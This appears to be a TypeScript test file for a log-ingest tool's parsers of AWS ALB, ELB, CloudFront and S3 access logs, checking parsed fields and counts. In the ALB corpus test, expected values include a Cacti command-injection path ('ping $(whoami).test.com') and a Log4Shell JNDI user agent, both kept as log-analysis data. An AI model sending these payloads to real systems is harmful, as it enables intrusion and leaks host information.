import assert from 'node:assert/strict';
import { existsSync, readdirSync } from 'node:fs';
import path from 'node:path';
import { after, before, describe, test } from 'node:test';
import { Store, type Row } from '../../src/db/store.js';
import { alb, cloudfront, elb, s3 } from '../../src/formats/aws.js';
import { formatSql, PARSED_COLUMNS, type LogFormat } from '../../src/formats/format.js';
import { FORMATS } from '../../src/formats/registry.js';
import { sniffFormat } from '../../src/ingest/sniff.js';
import { CORPUS, makeCase, runCli, tempDir } from '../helpers.js';

let store: Store;
before(async () => {
  store = await Store.open(tempDir());
});
after(() => store.close());

const AWS: readonly LogFormat[] = [alb, elb, cloudfront, s3];

/** Runs a format's SQL over the given lines as ingest does (line numbers from 1); times as ISO strings. */
async function parse(format: LogFormat, lines: readonly string[]): Promise<Row[]> {
  await store.run('CREATE OR REPLACE TEMP TABLE lines AS SELECT generate_subscripts($l::VARCHAR[], 1) AS line_no, unnest($l::VARCHAR[]) AS line', { l: [...lines] });
  const rows = await store.all(`SELECT line_no, ${PARSED_COLUMNS.join(', ')} FROM (${formatSql(format, { timezone: undefined, fields: {} })}) ORDER BY line_no`);
  return rows.map((r) => ({ ...r, time: r.time instanceof Date ? r.time.toISOString() : (r.time ?? null) }));
}

const tabs = (...fields: string[]) => fields.join('\t');

describe('ALB', () => {
  test('when the client is IPv6 then the port after the last colon goes and the address stays whole', async () => {
    const [r] = await parse(alb, [
      'h2 2023-09-10T23:55:00.361692Z app/api/6378464905b0814a 2a02:a33c:4538:1:bcf4:5264:e01c:f215:50718 10.0.0.9:80 0.000 0.003 0.000 401 401 29 805 "GET https://api.example.net:443/api/v1/alerts HTTP/2.0" "okhttp/4.11.0" ECDHE-RSA-AES128-GCM-SHA256 TLSv1.2 arn:aws:elasticloadbalancing:eu-west-1:111122223333:targetgroup/api/4adf8897d8a3b7af "Root=1-64fe5754-33ecd7461b3736944677bb97" "api.example.net" "session-reused" 11 2023-09-10T23:55:00.358000Z "forward" "-" "-" "10.0.100.2:80" "401" "-" "-"',
    ]);
    assert.deepEqual(
      [r!.reject_reason, r!.time, r!.client_ip, r!.vhost, r!.method, r!.path, r!.protocol, r!.status, r!.bytes, r!.request_id],
      [null, '2023-09-10T23:55:00.361Z', '2a02:a33c:4538:1:bcf4:5264:e01c:f215', 'api.example.net', 'GET', '/api/v1/alerts', 'HTTP/2.0', 401, 805, 'Root=1-64fe5754-33ecd7461b3736944677bb97'],
    );
  });

  test('when ALB logs a request it could not parse then the line is an event with no method or path', async () => {
    const [r] = await parse(alb, [alb.samples[3]!]);
    assert.deepEqual([r!.reject_reason, r!.method, r!.path, r!.vhost, r!.status, r!.client_ip], [null, null, null, 'portal.example.org', 400, '192.0.2.44']);
  });

  test('when a user agent holds an escaped quote then it is one quote and the fields after it stay in place', async () => {
    const line = alb.samples[0]!.replace('"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36"', String.raw`"Mozilla/5.0 \"quoted\""`);
    const [r] = await parse(alb, [line]);
    assert.deepEqual([r!.reject_reason, r!.user_agent, r!.request_id], [null, 'Mozilla/5.0 "quoted"', 'Root=1-65e6e1ba-3f1c2d4e5a6b7c8d9e0f1a2b']);
  });

  test('when the target path holds raw spaces then method and protocol are still the first and last words', async () => {
    const line = alb.samples[0]!.replace('/cases/7781/document?download=1', '/cases/a b');
    const [r] = await parse(alb, [line]);
    assert.deepEqual([r!.method, r!.path, r!.protocol], ['GET', '/cases/a b', 'HTTP/1.1']);
  });
});

describe('classic ELB', () => {
  test('when a line comes from a TCP listener then it is rejected as no HTTP request, and an HTTP line beside it is an event', async () => {
    const rows = await parse(elb, [elb.rejects[0]!.line, elb.samples[1]!]);
    assert.match(String(rows[0]!.reject_reason), /TCP\/SSL listener connection/);
    assert.deepEqual(
      [rows[1]!.reject_reason, rows[1]!.time, rows[1]!.client_ip, rows[1]!.vhost, rows[1]!.path, rows[1]!.status, rows[1]!.bytes, rows[1]!.user_agent],
      [null, '2015-05-13T23:39:44.117Z', '198.51.100.7', 'www.example.com', '/missing?id=1', 404, 0, 'Mozilla/5.0 (X11; Linux x86_64)'],
    );
  });
});

describe('CloudFront', () => {
  test('when a 33-field line is read then host header, forwarded-for, request id and the decoded user agent fill the event', async () => {
    const [r] = await parse(cloudfront, [cloudfront.samples[0]!]);
    assert.deepEqual(
      [r!.reject_reason, r!.time, r!.client_ip, r!.forwarded_for, r!.vhost, r!.method, r!.path, r!.protocol, r!.status, r!.bytes, r!.user_agent, r!.referer, r!.request_id],
      [
        null,
        '2024-03-05T09:30:01.000Z',
        '198.51.100.23',
        '203.0.113.50',
        'portal.example.org',
        'GET',
        '/cases/7781/document?download=1',
        'HTTP/2.0',
        200,
        48211,
        'Mozilla/5.0 (Windows NT 10.0; Win64; x64)',
        'https://portal.example.org/cases',
        'hX2t5n0Y_Q1v9JzB8eWb3cKk7mP4sL6rT0uVxYzA1bC2dE3fG4hI5w==',
      ],
    );
  });

  test('when a user agent was encoded twice or does not decode then it is decoded twice or kept as logged', async () => {
    const base = cloudfront.samples[2]!.split('\t');
    const withUa = (ua: string) => [...base.slice(0, 10), ua, ...base.slice(11)].join('\t');
    const rows = await parse(cloudfront, [withUa('Mozilla/5.0%2520(Windows;%2520U)'), withUa('bad%E0%A4%A'), withUa('-')]);
    assert.deepEqual(
      rows.map((r) => [r.reject_reason, r.user_agent]),
      [
        [null, 'Mozilla/5.0 (Windows; U)'],
        [null, 'bad%E0%A4%A'],
        [null, null],
      ],
    );
  });

  test('when the host header field is missing (a 12-field line) then the distribution host is the vhost', async () => {
    const [r] = await parse(cloudfront, [tabs('2011-01-02', '03:04:05', 'LHR3', '512', '192.0.2.1', 'GET', 'd1.cloudfront.net', '/a.css', '200', '-', 'curl/7.1', '-')]);
    assert.deepEqual([r!.reject_reason, r!.vhost, r!.path, r!.protocol, r!.request_id], [null, 'd1.cloudfront.net', '/a.css', null, null]);
  });

  test('when an RTMP event is read then the event is the method, the stream is in the path and there is no status', async () => {
    const [r] = await parse(cloudfront, [cloudfront.samples[3]!]);
    assert.deepEqual(
      [r!.reject_reason, r!.time, r!.client_ip, r!.vhost, r!.method, r!.path, r!.protocol, r!.status, r!.bytes, r!.user_agent, r!.referer],
      [null, '2010-03-12T23:51:21.000Z', '192.0.2.222', 's5c39gqb8ow64r.cloudfront.net', 'play', '/cfx/st/myvideo?p=2&q=4', 'RTMP', null, 3914, 'LNX 10,0,32,18', 'http://player.example.com/player.swf'],
    );
  });
});

describe('S3', () => {
  test('when a line has the newer trailing fields then the host header is the vhost; without them the bucket is', async () => {
    const rows = await parse(s3, [s3.samples[0]!, s3.samples[1]!]);
    assert.deepEqual(
      rows.map((r) => [r.reject_reason, r.time, r.client_ip, r.vhost, r.method, r.path, r.status, r.bytes, r.account, r.request_id, r.referer]),
      [
        [null, '2024-03-05T09:40:12.000Z', '198.51.100.23', 'portal-documents.s3.eu-west-1.amazonaws.com', 'GET', '/portal-documents/cases/7781/report.pdf?versionId=3HL4kqtJlcpXroDTDmJ', 200, 48211, 'arn:aws:iam::111122223333:user/m.weber', '3E57427F3EXAMPLE', null],
        [null, '2012-02-10T21:42:07.000Z', '192.0.2.4', 'www.example.com', 'GET', '/index', 200, 368, null, 'EB3502676500C6BE', 'http://www.example.com/'],
      ],
    );
  });

  test('when a request was denied then status and error bytes are kept and an anonymous requester has no account', async () => {
    const [r] = await parse(s3, [s3.samples[2]!]);
    assert.deepEqual([r!.reject_reason, r!.status, r!.bytes, r!.account, r!.user_agent], [null, 403, 243, null, 'curl/8.5.0']);
  });
});

describe('auto picks the AWS reader', () => {
  test('when a sample of one AWS format is sniffed then that format is chosen among all registered ones', () => {
    for (const f of AWS) {
      const r = sniffFormat(f.samples);
      assert.ok(r.ok, f.name);
      assert.equal(r.format.name, f.name);
    }
  });

  test('when the samples of every other registered format are sniffed then no AWS format fits any', () => {
    for (const other of FORMATS.filter((f) => !AWS.includes(f))) {
      for (const line of other.samples) {
        for (const f of AWS) assert.equal(f.sniff(line), false, `${f.name} fits a ${other.name} sample: ${line}`);
      }
    }
    for (const other of AWS) {
      for (const line of other.samples) {
        for (const f of AWS.filter((x) => x !== other)) assert.equal(f.sniff(line), false, `${f.name} fits a ${other.name} sample`);
      }
    }
  });
});

/*
 * Every file of the four AWS folders, read with format auto. The counts were found by reading the lines:
 *  - aws-elb-classic/matomo__elb.log: line 2 is a '#' comment; line 3 is a TCP-listener record
 *    ('"- - - "' request, '-' status codes): no HTTP request, rejected.
 *  - aws-cloudfront: the '#Version'/'#Fields' lines are comments (2 per file that has them).
 *  - matomo__amazon_cloudfront_rtmp.log: two RTMP events (connect, play), space-separated, both events.
 *  - every other data line is one request.
 */
const EXPECTED: Record<string, { format: string; lines: number; events: number; rejected: number; comments: number; status?: string }> = {
  'aws-alb/awslogparser__loadbalancer_cloudfront_forward.csv': { format: 'aws_alb', lines: 1, events: 1, rejected: 0, comments: 0 },
  'aws-alb/awslogparser__loadbalancer_cloudfront_forward_h2.csv': { format: 'aws_alb', lines: 1, events: 1, rejected: 0, comments: 0 },
  'aws-alb/awslogparser__loadbalancer_cloudfront_forward_refused.csv': { format: 'aws_alb', lines: 1, events: 1, rejected: 0, comments: 0 },
  'aws-alb/awslogparser__loadbalancer_http2_entry.csv': { format: 'aws_alb', lines: 1, events: 1, rejected: 0, comments: 0 },
  // The .gz files hold the same content as their plain twins (read first): one content, not read again.
  'aws-alb/awslogparser__loadbalancer_http2_entry.csv.gz': { format: 'aws_alb', lines: 0, events: 0, rejected: 0, comments: 0, status: 'skipped' },
  'aws-alb/awslogparser__loadbalancer_http2_entry_auth_error.csv': { format: 'aws_alb', lines: 1, events: 1, rejected: 0, comments: 0 },
  'aws-alb/awslogparser__loadbalancer_http2_entry_auth_missing.csv': { format: 'aws_alb', lines: 1, events: 1, rejected: 0, comments: 0 },
  'aws-alb/awslogparser__loadbalancer_http_entry.csv': { format: 'aws_alb', lines: 1, events: 1, rejected: 0, comments: 0 },
  'aws-alb/awslogparser__loadbalancer_https_entry.csv': { format: 'aws_alb', lines: 1, events: 1, rejected: 0, comments: 0 },
  'aws-alb/awslogparser__loadbalancer_lambda_entry.csv': { format: 'aws_alb', lines: 1, events: 1, rejected: 0, comments: 0 },
  'aws-alb/awslogparser__loadbalancer_lambda_failed_entry.csv': { format: 'aws_alb', lines: 1, events: 1, rejected: 0, comments: 0 },
  'aws-alb/awslogparser__loadbalancer_secured_websockets_entry.csv': { format: 'aws_alb', lines: 1, events: 1, rejected: 0, comments: 0 },
  'aws-alb/awslogparser__loadbalancer_websockets_entry.csv': { format: 'aws_alb', lines: 1, events: 1, rejected: 0, comments: 0 },
  'aws-alb/crowdsec__aws-alb-http-bad-user-agent.log': { format: 'aws_alb', lines: 4, events: 4, rejected: 0, comments: 0 },
  'aws-alb/crowdsec__aws-alb-logs.log': { format: 'aws_alb', lines: 14, events: 14, rejected: 0, comments: 0 },
  'aws-alb/matomo__alb.log': { format: 'aws_alb', lines: 1, events: 1, rejected: 0, comments: 0 },
  'aws-elb-classic/awslogparser__classic_loadbalancer_http_entry.csv': { format: 'aws_elb', lines: 1, events: 1, rejected: 0, comments: 0 },
  'aws-elb-classic/matomo__elb.log': { format: 'aws_elb', lines: 2, events: 1, rejected: 1, comments: 1 },
  'aws-cloudfront/awslogparser__cloudfront-multiple.log': { format: 'cloudfront', lines: 6, events: 6, rejected: 0, comments: 2 },
  'aws-cloudfront/awslogparser__cloudfront-multiple.log.gz': { format: 'cloudfront', lines: 0, events: 0, rejected: 0, comments: 0, status: 'skipped' },
  'aws-cloudfront/awslogparser__cloudfront_entry.csv': { format: 'cloudfront', lines: 1, events: 1, rejected: 0, comments: 0 },
  'aws-cloudfront/awslogparser__cloudfront_entry2.csv': { format: 'cloudfront', lines: 1, events: 1, rejected: 0, comments: 0 },
  'aws-cloudfront/awslogparser__cloudfront_entry_broken_cookie.csv': { format: 'cloudfront', lines: 1, events: 1, rejected: 0, comments: 0 },
  'aws-cloudfront/awslogparser__cloudfront_entry_cookie_with_encoding.csv': { format: 'cloudfront', lines: 1, events: 1, rejected: 0, comments: 0 },
  'aws-cloudfront/crowdsec__aws-cloudfront-logs.log': { format: 'cloudfront', lines: 2, events: 2, rejected: 0, comments: 0 },
  'aws-cloudfront/matomo__amazon_cloudfront_rtmp.log': { format: 'cloudfront', lines: 2, events: 2, rejected: 0, comments: 2 },
  'aws-cloudfront/matomo__amazon_cloudfront_web.log': { format: 'cloudfront', lines: 1, events: 1, rejected: 0, comments: 2 },
  'aws-s3/matomo__s3.log': { format: 'aws_s3', lines: 1, events: 1, rejected: 0, comments: 0 },
};

const FOLDERS = ['aws-alb', 'aws-elb-classic', 'aws-cloudfront', 'aws-s3'];

describe('real-world AWS corpus (../shared/corpus/real-logs)', { skip: existsSync(CORPUS) ? false : 'no ../shared/corpus/real-logs beside this checkout' }, () => {
  let reported: Map<string, { status: string; note: string; format: string; lines: number; events: number; rejected: number; comments: number }>;
  let events: Map<string, Row>;
  let rejects: Map<string, Row>;

  before(async () => {
    const files = FOLDERS.flatMap((folder) => readdirSync(path.join(CORPUS, folder)).map((f) => `${folder}/${f}`));
    const yaml = `case: aws\nsources:\n${files.map((f, i) => `  - name: f${i}\n    path: ${JSON.stringify(path.join(CORPUS, f))}\n`).join('')}`;
    const db = tempDir();
    const r = runCli(['ingest', makeCase(yaml), '--db', db, '--json']);
    assert.equal(r.code, 0, r.stderr);
    const reports = (JSON.parse(r.stdout) as { files: { path: string; status: string; note: string; format: string; lines: number; events: number; rejected: number; comments: number }[] }).files;
    reported = new Map(reports.map((rep) => [files.find((f) => rep.path.endsWith(f))!, rep]));
    const s = await Store.open(db);
    try {
      const key = (r: Row) => `${String(r.abs_path).slice(CORPUS.length + 1)}:${String(r.line)}`;
      events = new Map((await s.all('SELECT f.abs_path, e.* FROM events e JOIN files f USING (file_id)')).map((r) => [key(r), { ...r, time: (r.time as Date).toISOString() }]));
      rejects = new Map((await s.all('SELECT f.abs_path, r.line, r.reason FROM rejects r JOIN files f USING (file_id)')).map((r) => [key(r), r]));
    } finally {
      s.close();
    }
  });

  test('when every file of the four folders is ingested with format auto then each gets its reader and the counts read by hand', () => {
    assert.deepEqual([...reported.keys()].sort(), Object.keys(EXPECTED).sort());
    for (const [file, want] of Object.entries(EXPECTED)) {
      const got = reported.get(file)!;
      assert.deepEqual({ status: got.status, format: got.format, lines: got.lines, events: got.events, rejected: got.rejected, comments: got.comments }, { status: 'ingested', ...want }, file);
      if (want.status === 'skipped') assert.match(got.note, /already in the store, read from .*: counted once/, file);
    }
  });

  test('when the ELB TCP-listener line is read then its reject says why', () => {
    assert.match(String(rejects.get('aws-elb-classic/matomo__elb.log:3')?.reason), /TCP\/SSL listener connection: no HTTP request/);
  });

  const fields = (key: string, names: readonly string[]) => {
    const e = events.get(key);
    assert.ok(e, `no event for ${key}`);
    return Object.fromEntries(names.map((n) => [n, e[n]]));
  };

  test('when ALB lines are read then their fields are the ones written in them', () => {
    const names = ['time', 'client_ip', 'vhost', 'method', 'path', 'protocol', 'status', 'bytes', 'user_agent', 'request_id'];
    assert.deepEqual(fields('aws-alb/crowdsec__aws-alb-logs.log:7', names), {
      time: '2023-04-26T19:53:56.715Z',
      client_ip: '192.168.1.16',
      vhost: 'cacti.example.com',
      method: 'GET',
      path: '/remote_agent.php?action=polldata&host_id=1&local_data_ids[]=3&poller_id=;ping%20%24%28whoami%29.test.com',
      protocol: 'HTTP/1.1',
      status: 404,
      bytes: 167,
      user_agent: 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/74.0.3729.169 Safari/537.36',
      request_id: 'Root=1-64498154-416a2e644a6c9c7a45da7e4e',
    });
    assert.equal(events.get('aws-alb/crowdsec__aws-alb-logs.log:5')!.user_agent, '${jndi:ldap://${java:version}.domain/a}');
    // The newest layout (classification, TID_ connection trace id), no final newline.
    assert.deepEqual(fields('aws-alb/awslogparser__loadbalancer_http2_entry_auth_error.csv:1', names), {
      time: '2018-07-02T22:23:00.186Z',
      client_ip: '192.168.131.39',
      vhost: 'example.com',
      method: 'GET',
      path: '/oauth2/idpresponse?code=XXXXX',
      protocol: 'HTTP/2.0',
      status: 401,
      bytes: 616,
      user_agent: 'curl/7.46.0',
      request_id: 'Root=1-665d7a41-032e7e1d59b8e8043f88b4dc',
    });
    // WebSockets: 101 and no user agent; the gzip copy reads like its plain twin.
    assert.deepEqual(fields('aws-alb/awslogparser__loadbalancer_websockets_entry.csv:1', ['client_ip', 'vhost', 'status', 'bytes', 'user_agent']), {
      client_ip: '10.0.0.140',
      vhost: '10.0.0.30',
      status: 101,
      bytes: 587,
      user_agent: null,
    });
  });

  test('when classic ELB and S3 lines are read then their fields are the ones written in them', () => {
    assert.deepEqual(fields('aws-elb-classic/matomo__elb.log:1', ['time', 'client_ip', 'vhost', 'method', 'path', 'status', 'bytes', 'request_id']), {
      time: '2015-05-13T23:39:43.945Z',
      client_ip: '1.2.3.4',
      vhost: 'www.example.com',
      method: 'GET',
      path: '/path/index.html',
      status: 200,
      bytes: 57,
      request_id: null,
    });
    assert.deepEqual(fields('aws-s3/matomo__s3.log:1', ['time', 'client_ip', 'vhost', 'method', 'path', 'status', 'bytes', 'account', 'request_id', 'referer']), {
      time: '2012-02-10T21:42:07.000Z',
      client_ip: '1.2.3.4',
      vhost: 'www.example.com',
      method: 'GET',
      path: '/index',
      status: 200,
      bytes: 368,
      account: 'arn:aws:iam::179580289999:user/phillip.boss',
      request_id: 'EB3502676500C6BE',
      referer: null,
    });
  });

  test('when CloudFront lines are read then their fields are the ones written in them, user agents decoded', () => {
    const names = ['time', 'client_ip', 'forwarded_for', 'vhost', 'method', 'path', 'protocol', 'status', 'bytes', 'user_agent', 'referer', 'request_id'];
    const favicon = {
      time: '2019-12-13T22:36:27.000Z',
      client_ip: '192.0.2.200',
      forwarded_for: null,
      vhost: 'www.example.com',
      method: 'GET',
      path: '/favicon.ico',
      protocol: 'HTTP/1.1',
      status: 502,
      bytes: 900,
      user_agent: 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/78.0.3904.108 Safari/537.36',
      referer: 'http://www.example.com/',
      request_id: '1pkpNfBQ39sYMnjjUQjmH2w1wdJnbHYTbag21o_3OfcQgPzdL2RSSQ==',
    };
    assert.deepEqual(fields('aws-cloudfront/awslogparser__cloudfront-multiple.log:6', names), favicon);
    assert.deepEqual(fields('aws-cloudfront/awslogparser__cloudfront_entry2.csv:1', ['path', 'status', 'bytes', 'vhost']), {
      path: '/soundtrack/happy.mp3?a=b&c=d',
      status: 304,
      bytes: 2390282,
      vhost: 'd111111abcdef8.cloudfront.net',
    });
    assert.deepEqual(fields('aws-cloudfront/crowdsec__aws-cloudfront-logs.log:2', ['time', 'client_ip', 'vhost', 'path', 'status', 'bytes', 'request_id']), {
      time: '2024-03-12T15:22:28.000Z',
      client_ip: '1.2.3.4',
      vhost: 'hub-cdn.crowdsec.net',
      path: '/testseb?query_param=42',
      status: 400,
      bytes: 703,
      request_id: '375WZmnR4hhhnlZKNn0D_LvkWhAqvWvBsUqySq8f_GOoAPP3k8R8fw==',
    });
    // %2520: the user agent was encoded twice.
    assert.equal(
      events.get('aws-cloudfront/matomo__amazon_cloudfront_web.log:3')!.user_agent,
      'Mozilla/5.0 (Windows; U; Windows NT 6.1; de-DE) AppleWebKit/534.17 (KHTML, like Gecko) Chrome/10.0.649.0 Safari/534.17',
    );
    // RTMP, copied from documentation: the application URL keeps the zero-width space it was copied with.
    assert.deepEqual(fields('aws-cloudfront/matomo__amazon_cloudfront_rtmp.log:4', ['time', 'client_ip', 'vhost', 'method', 'path', 'status', 'bytes']), {
      time: '2010-03-12T23:51:21.000Z',
      client_ip: '192.0.2.222',
      vhost: 'shqshne4jdp4b6.cloudfront.net',
      method: 'play',
      path: '/cfx/st\u200b/myvideo?p=2&q=4',
      status: null,
      bytes: 3914,
    });
  });
});
